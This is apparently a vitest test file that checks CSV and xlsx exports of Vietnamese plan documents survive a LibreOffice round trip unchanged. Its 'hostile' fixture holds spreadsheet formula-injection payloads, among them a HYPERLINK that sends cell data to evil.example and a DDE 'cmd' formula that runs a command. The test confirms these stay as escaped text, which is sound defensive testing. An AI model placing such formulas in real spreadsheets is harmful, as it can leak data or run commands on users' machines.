// Every cell of every table survives a spreadsheet: the CSV (with and without a BOM) and the
// xlsx are opened in LibreOffice (headless, dates and numbers detected, in an English and a
// Vietnamese locale), saved as CSV again and compared cell by cell. Ids like "01/1" must not
// become dates, the appendix "01" not the number 1, and formula-looking text must stay text.
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/emit/csv.js';
import { TABLE_NAMES, tableRows, type Cell } from '../../src/emit/tables.js';
import { SHEET_NAMES, sheetsOf, toXlsx } from '../../src/emit/xlsx.js';
import { parse } from '../../src/pipeline.js';
import type { CchcDocument } from '../../src/schema/document.js';
import { parseCsv } from '../helpers/csv-reader.js';
import { fixturePath, hasShared, seedPath, sharedMissingNote } from '../helpers/shared.js';
import { convertToCsv, csvImport, soffice, sofficeMissingNote } from '../helpers/soffice.js';

const read = (path: string, name: string) => parse(readFileSync(path), { path: name });

/** A real plan whose cells hold what a hostile or unlucky document could: formulas, numbers, dates. */
function hostile(): CchcDocument {
  const doc = read(fixturePath('clean-plan.txt'), 'hostile.txt');
  const values = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1'];
  doc.tasks = values.map((content, i) => ({
    ...doc.tasks[i % doc.tasks.length]!,
    id: `PL-01/${i + 1}.10`,
    appendix: '01',
    ordinal: `${i + 1}.10`,
    content,
    products: ['1,5'],
    target: '30/6/2022',
    deadline: { text: '01/1', kind: 'unknown', start: null, end: null, recurrence: null, condition: null, parts: [] },
  }));
  return doc;
}

function documents(): Array<{ name: string; doc: CchcDocument }> {
  const docs = [
    { name: 'clean-plan-txt', doc: read(fixturePath('clean-plan.txt'), 'clean-plan.txt') },
    { name: 'clean-plan-md', doc: read(fixturePath('clean-plan.md'), 'clean-plan.md') },
    { name: 'ocr-interleaved', doc: read(fixturePath('ocr/interleaved-table.txt'), 'interleaved-table.txt') },
    { name: 'hostile', doc: hostile() },
  ];
  if (hasShared)
    for (const seed of ['000', '001', '002', '003', '004']) docs.push({ name: `seed-${seed}`, doc: read(seedPath(seed), `${seed}.txt`) });
  return docs;
}

/** Cells that differ: "file row:column ours → theirs". */
function differences(name: string, ours: string[][], theirs: string[][]): string[] {
  const out: string[] = [];
  if (ours.length !== theirs.length) out.push(`${name}: ${ours.length} rows, ${theirs.length} after the round trip`);
  ours.forEach((row, r) =>
    row.forEach((cell, c) => {
      const back = theirs[r]?.[c] ?? '';
      if (back !== cell) out.push(`${name} ${r + 1}:${c + 1} ${JSON.stringify(cell)} → ${JSON.stringify(back)}`);
    }),
  );
  return out;
}

const asText = (rows: Cell[][]) => rows.map((row) => row.map((cell) => (cell === null ? '' : String(cell))));

describe.skipIf(!soffice)('spreadsheet round trip (LibreOffice)', () => {
  if (!hasShared) console.warn(sharedMissingNote('spreadsheet round trip of the seeds'));
  const dir = mkdtempSync(join(tmpdir(), 'cchc-roundtrip-'));
  const docs = documents();

  it('keeps every CSV cell, with and without a BOM, in English and Vietnamese locales', { timeout: 240_000 }, async () => {
    const files: string[] = [];
    const ours = new Map<string, string[][]>();
    for (const { name, doc } of docs) {
      for (const table of TABLE_NAMES) {
        for (const bom of [false, true]) {
          const base = `${name}.${table}${bom ? '.bom' : ''}`;
          const text = await toCsv(doc, { table, bom });
          expect(text.startsWith('\uFEFF')).toBe(bom);
          writeFileSync(join(dir, `${base}.csv`), text);
          files.push(join(dir, `${base}.csv`));
          ours.set(base, parseCsv(text));
        }
      }
    }
    const diffs: string[] = [];
    for (const lcid of [1033, 1066]) {
      const out = join(dir, `csv-${lcid}`);
      mkdirSync(out);
      convertToCsv(files, out, csvImport(lcid));
      const written = readdirSync(out);
      for (const [base, rows] of ours) {
        const back = written.find((f) => f.startsWith(`${base}-`) || f === `${base}.csv`);
        if (!back) diffs.push(`${base}: not converted (${lcid})`);
        else diffs.push(...differences(`${base} (${lcid})`, rows, parseCsv(readFileSync(join(out, back), 'utf8'))));
      }
    }
    expect(diffs).toEqual([]);
    // The formulas stayed text: the round trip gave back the text, not what a formula computes.
    const hostileTasks = ours.get('hostile.tasks')!;
    expect(hostileTasks.slice(1).map((row) => row[3])).toEqual(hostile().tasks.map((t) => `'${t.content}`));
    expect(hostileTasks[1]!.slice(0, 3)).toEqual(['PL-01/1.10', 'Phụ lục 01', "'1.10"]);
  });

  it('keeps every xlsx cell; one document or several, three sheets', { timeout: 240_000 }, async () => {
    const files: string[] = [];
    for (const { name, doc } of docs) {
      writeFileSync(join(dir, `${name}.xlsx`), await toXlsx(doc));
      files.push(join(dir, `${name}.xlsx`));
    }
    const out = join(dir, 'xlsx');
    mkdirSync(out);
    convertToCsv(files, out);
    const diffs: string[] = [];
    for (const { name, doc } of docs) {
      const sheets = sheetsOf([doc]);
      expect(
        readdirSync(out)
          .filter((f) => f.startsWith(`${name}-`))
          .sort(),
      ).toEqual(SHEET_NAMES.map((s) => `${name}-${s}.csv`).sort());
      for (const sheet of SHEET_NAMES) {
        diffs.push(
          ...differences(`${name}.xlsx ${sheet}`, asText(sheets[sheet]), parseCsv(readFileSync(join(out, `${name}-${sheet}.csv`), 'utf8'))),
        );
      }
    }
    expect(diffs).toEqual([]);
    // And tableRows is what the CSV holds too, but for the text marks.
    expect(sheetsOf([docs[0]!.doc]).tasks).toEqual(tableRows('tasks', [docs[0]!.doc]));
  });
});

if (!soffice) describe('spreadsheet round trip (LibreOffice)', () => it.skip(sofficeMissingNote('spreadsheet round trip'), () => {}));
